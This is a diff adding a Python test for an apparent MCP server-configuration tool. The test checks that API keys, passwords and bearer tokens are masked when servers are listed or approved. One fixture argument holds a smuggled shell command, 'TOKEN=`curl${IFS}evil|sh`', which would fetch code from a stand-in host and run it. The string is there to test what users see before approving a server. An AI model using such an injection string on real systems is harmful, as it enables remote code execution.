@@ -97,6 +97,31 @@ async def test_a_file_that_would_lose_something_is_not_written(mcp):
         assert file.read_text() == text
 
 
+async def test_secrets_are_not_shown(mcp, place):
+    """Not in a list, not as data, and not in what is asked; what runs is shown in full there."""
+    secret = "hunter2hunter2"
+    program = {
+        "command": "npx",
+        "args": ["--api-key", secret, "TOKEN=`curl${IFS}evil|sh`"],
+        "env": {"DB_PASSWORD": secret, "A": "b"},
+    }
+    address = {
+        "url": f"https://x.example/mcp?api_key={secret}",
+        "headers": {"Authorization": f"Bearer {secret}", "K": "${T}"},
+    }
+    (place / ".mcp.json").write_text(json.dumps({"mcpServers": {"a": program, "b": address}}))
+    Trust().add(place)
+    for argv in (["list"], ["list", "--json"]):
+        assert secret not in (await mcp(*argv))[1]
+    _, said = await mcp("approve", "a", answers=["n"])
+    assert "DB_PASSWORD=(14 characters" in said
+    assert "A=b" in said
+    assert "evil" in said
+    _, said = await mcp("approve", "b", answers=["n"])
+    assert "Authorization: (21 characters" in said
+    assert "K: ${T}" in said
+
+
 MINE = """\ufeff{
 \t// what I work with
 \t"mcpServers": {
@@ -117,14 +142,19 @@ async def test_comments_order_and_form_stay(mcp, tmp_path, text):
     file.symlink_to(real)
     real.write_bytes(text.encode())
     code = tmp_path / "code.json"
-    code.write_text('{"inputs": [{"id": "q"}], "servers": {"c": {"url": "https://c.example", "headers": {"K": "${input:q}"}}}}')
+    code.write_text(
+        '{"inputs": [{"id": "q"}], "servers": {"c": {"url": "https://c.example", "headers": {"K": "${input:q}"}}}}'
+    )
     await mcp("add", "--from", str(code))
     await mcp("add", "--replace", "c", "--", "new")
     config = read_config(file)
     assert config.servers["c"].command == "new"
     assert "q" in config.inputs
     assert config.mistakes == ()
-    kept = [line.rstrip("\r").rstrip(",").replace(', // last', " // last") for line in real.read_bytes().decode().split("\n")]
+    kept = [
+        line.rstrip("\r").rstrip(",").replace(", // last", " // last")
+        for line in real.read_bytes().decode().split("\n")
+    ]
     for line in text.split("\n")[:-1]:
         line = line.rstrip("\r").rstrip(",")
         assert line in kept or "inputs" in line or "mcpServers" in line or line == "{ }"
